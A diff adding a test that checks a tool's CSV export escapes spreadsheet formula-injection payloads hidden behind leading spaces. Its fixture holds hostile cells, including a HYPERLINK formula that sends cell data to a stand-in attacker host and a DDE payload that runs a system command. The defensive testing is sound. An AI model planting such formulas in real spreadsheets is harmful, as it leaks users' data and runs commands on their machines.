@@ -175,6 +175,28 @@ def test_csv_cells_never_start_a_formula(hostile, tmp_path, bom):
         assert len(list(csv.reader(handle))) == 1 + len(PAYLOADS)  # header + one row each
 
 
+SPACED = {
+    "space": ' =HYPERLINK("http://evil.example/?"&A1,"click")',
+    "spaces": "   @SUM(1+1)",
+    "nbsp": "\u00a0+cmd|' /C calc'!A0",
+    "space-tab": " \t-2+3",
+}
+
+
+@needs("csv")
+def test_csv_cells_never_start_a_formula_after_spaces(moci, tmp_path):
+    # LibreOffice's CSV import with "Trim spaces" reads " =1+1" as the formula "=1+1".
+    build(moci, SPACED, "Plain Name")
+    files = export(moci, "csv", tmp_path / "out")
+    for path in files:
+        with open(path, encoding="utf-8", newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        for cell in cells:
+            assert not cell.lstrip().startswith(FORMULA_STARTS), (path.name, cell)
+        for text in SPACED.values():
+            assert "'" + text in cells, (path.name, text)
+
+
 # --------------------------------------------------------------------------- PO, POT, MO
 
 
